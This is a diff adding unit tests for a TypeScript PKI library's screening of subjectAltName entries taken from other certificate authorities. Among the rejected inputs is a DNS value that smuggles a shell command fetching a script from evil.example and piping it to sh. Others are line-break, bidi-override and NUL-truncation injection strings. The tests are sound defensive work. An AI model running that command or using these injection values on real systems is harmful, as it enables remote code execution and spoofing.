@@ -3,7 +3,7 @@ import fc from 'fast-check';
 import { isPkiError } from './errors.ts';
 import type { SanEntry } from './types.ts';
 import {
-  bytesToIp, createSanExtension, ipToBytes, parseSanExtension, parseSanList, toAsciiHostname, validateDnsName,
+  bytesToIp, createSanExtension, ipToBytes, parseSanExtension, parseSanList, screenForeignSans, toAsciiHostname, validateDnsName,
 } from './san.ts';
 
 describe('SAN list parsing', () => {
@@ -147,5 +147,32 @@ describe('subjectAltName extension', () => {
     expect(() => createSanExtension([])).toThrow(expect.objectContaining({ code: 'SAN_INVALID' }));
     expect(() => createSanExtension([{ type: 'dns', value: '例え.jp' }])).toThrow(expect.objectContaining({ code: 'SAN_INVALID' }));
     expect(() => createSanExtension([{ type: 'ip', value: '1.2.3' }])).toThrow(expect.objectContaining({ code: 'SAN_INVALID' }));
+  });
+});
+
+// Issue 12 item 2: names another CA wrote meet the rules typed names meet.
+describe('screenForeignSans', () => {
+  it.each<[string, SanEntry, SanEntry | string]>([
+    ['kept as is', { type: 'dns', value: 'mail.example.com' }, { type: 'dns', value: 'mail.example.com' }],
+    ['normalised', { type: 'dns', value: 'MAIL.Example.COM' }, { type: 'dns', value: 'mail.example.com' }],
+    ['wildcard kept', { type: 'dns', value: '*.example.com' }, { type: 'dns', value: '*.example.com' }],
+    ['IP kept', { type: 'ip', value: '192.0.2.1' }, { type: 'ip', value: '192.0.2.1' }],
+    ['mailbox kept', { type: 'email', value: 'a@Example.com' }, { type: 'email', value: 'a@example.com' }],
+    ['shell command', { type: 'dns', value: 'mail.example.com;curl -s https://evil.example/x|sh;echo' }, 'san.dns.character'],
+    ['CR/LF and a fake step', { type: 'dns', value: 'mail.example.com\r\n7. Run: x' }, 'san.dns.character'],
+    ['bidi override', { type: 'dns', value: 'mail.\u202emoc.example' }, 'san.dns.idn'],
+    ['bidi override as IA5String bytes', { type: 'dns', value: 'mail.\u00e2\u0080\u00aemoc.example' }, 'san.dns.idn'],
+    ['NUL truncation', { type: 'dns', value: 'mail.example.com\u0000.evil.example' }, 'san.dns.character'],
+    ['space', { type: 'dns', value: 'mail example.com' }, 'san.dns.character'],
+    ['empty', { type: 'dns', value: '' }, 'san.dns.empty'],
+    ['mailbox with a line break', { type: 'email', value: 'a\n@example.com' }, 'san.email.localPart'],
+  ])('%s', (_, entry, expected) => {
+    const r = screenForeignSans([entry]);
+    if (typeof expected === 'string') {
+      expect(r.entries).toEqual([]);
+      expect(r.issues).toEqual([{ field: 'sans', code: expected, params: expect.objectContaining({ value: entry.value }) }]);
+    } else {
+      expect(r).toEqual({ entries: [expected], issues: [] });
+    }
   });
 });
